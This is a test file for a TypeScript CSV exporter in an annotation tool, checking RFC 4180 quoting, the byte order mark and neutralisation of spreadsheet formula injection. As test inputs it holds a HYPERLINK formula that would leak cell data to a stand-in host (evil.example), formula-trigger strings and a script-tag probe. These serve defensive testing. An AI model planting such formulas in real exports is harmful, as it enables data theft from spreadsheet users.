import { describe, expect, it } from 'vitest';
import { CSV_HEADER, csvCell, exportCsv } from '../../lib/export-csv.ts';
import { exportFileName } from '../../lib/export-file.ts';
import type { Annotation, Theme } from '../../lib/schema.ts';
import { EXPORTED_AT, annotation, sample, theme } from './export-support.ts';

/**
 * A strict RFC 4180 reader, written for the tests so they check what a spreadsheet would see:
 * records end with CRLF, quoted fields may hold commas, quotes (doubled) and line breaks.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"' && field === '') {
      i++;
      for (;;) {
        const close = text.indexOf('"', i);
        if (close === -1) throw new Error('unterminated quoted field');
        field += text.slice(i, close);
        i = close + 1;
        if (text[i] !== '"') break;
        field += '"';
        i++;
      }
      if (text[i] !== ',' && !text.startsWith('\r\n', i)) throw new Error(`stray character after quoted field at ${i}`);
    } else if (text[i] === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (text.startsWith('\r\n', i)) {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      if (text[i] === '"' || text[i] === '\r' || text[i] === '\n') throw new Error(`unquoted special character at ${i}`);
      field += text[i];
      i++;
    }
  }
  if (field !== '' || record.length > 0) throw new Error('last record does not end with CRLF');
  return records;
}

const csv = (themes: Theme[], annotations: Annotation[]) => exportCsv({ themes, annotations, exportedAt: EXPORTED_AT, scope: 'all' });

/** The data rows, BOM and header checked and removed. */
function rows(themes: Theme[], annotations: Annotation[]): string[][] {
  const { text } = csv(themes, annotations);
  expect(text.startsWith('\uFEFF')).toBe(true);
  const [header, ...data] = parseCsv(text.slice(1));
  expect(header).toEqual([...CSV_HEADER]);
  return data;
}

describe('CSV export', () => {
  it('is named and typed as UTF-8 CSV and starts with a byte order mark', () => {
    const file = csv([], []);
    expect(file.fileName).toBe(exportFileName('all', EXPORTED_AT, 'csv'));
    expect(file.mimeType).toBe('text/csv;charset=utf-8');
    expect(new TextEncoder().encode(file.text).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(file.text).toBe('\uFEFFDocument title,URL,Theme,Quote,Note,Created\r\n');
  });

  it('has one row per annotation and theme, in export order', () => {
    const { themes, annotations } = sample();
    const data = rows(themes, annotations);
    expect(data).toHaveLength(5);
    const b2 = annotations.find((a) => a.id === 'b2');
    expect(data.map((row) => [row[1], row[2]])).toEqual([
      ['https://www.gov.uk/a', 'Management oversight'],
      ['https://www.gov.uk/a', 'Management oversight'],
      ['https://www.gov.uk/a', 'Management oversight'],
      ['https://www.gov.uk/b', 'Voice of the child'],
      ['https://www.gov.uk/b', 'Management oversight'],
    ]);
    expect(data[3]).toEqual([b2?.title, b2?.url, 'Voice of the child', b2?.quote.exact, b2?.note, b2?.createdAt]);
    expect(data.map((row) => row[4] === '')).toEqual([true, false, false, false, false]);
  });

  it('shows the id of a theme that is no longer in the codebook', () => {
    const data = rows([theme()], [annotation({ themeIds: ['oversight', 'deleted-theme'] })]);
    expect(data.map((row) => row[2])).toEqual(['Management oversight', 'deleted-theme']);
  });

  it('quotes commas, quotes and line breaks so every cell comes back whole', () => {
    const note = 'First, "quoted" line\nsecond line\r\nthird line';
    const title = 'Barnet, "monitoring" visit';
    const quote = 'effective, timely "help"';
    const [row] = rows(
      [theme({ label: 'Help, "early"' })],
      [annotation({ note, title, quote: { exact: quote, prefix: '', suffix: '' } })],
    );
    expect(row).toEqual([title, annotation().url, 'Help, "early"', quote, note, annotation().createdAt]);
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('plain')).toBe('plain');
  });

  it.each([
    ['=', '=1+1'],
    ['+', '+44 20 7946 0000'],
    ['-', '-2+3'],
    ['@', '@SUM(A1:A2)'],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
  ])('neutralises a cell starting with %s', (_name, value) => {
    const [row] = rows([theme({ label: value })], [annotation({ note: value, title: value, quote: { exact: value, prefix: '', suffix: '' } })]);
    expect(row?.[0]).toBe(`'${value}`);
    expect(row?.[2]).toBe(`'${value}`);
    expect(row?.[3]).toBe(`'${value}`);
    expect(row?.[4]).toBe(`'${value}`);
  });

  it('keeps a HYPERLINK formula in a note as text, quoted where it holds quotes and commas', () => {
    const note = '=HYPERLINK("http://evil.example/?leak="&A1, "Click me")';
    expect(csvCell(note)).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1, ""Click me"")"`);
    const [row] = rows([theme()], [annotation({ note })]);
    expect(row?.[4]).toBe(`'${note}`);
  });

  it('leaves cells alone when the dangerous character is not first', () => {
    expect(csvCell('1+1=2')).toBe('1+1=2');
    expect(csvCell('ask @ofsted')).toBe('ask @ofsted');
  });

  it('keeps HTML and script in notes and labels as plain text', () => {
    const note = '<script>alert(1)</script><b>bold</b> &amp;';
    const [row] = rows([theme({ label: '<i>Voice</i>' })], [annotation({ note })]);
    expect(row?.[2]).toBe('<i>Voice</i>');
    expect(row?.[4]).toBe(note);
  });
});
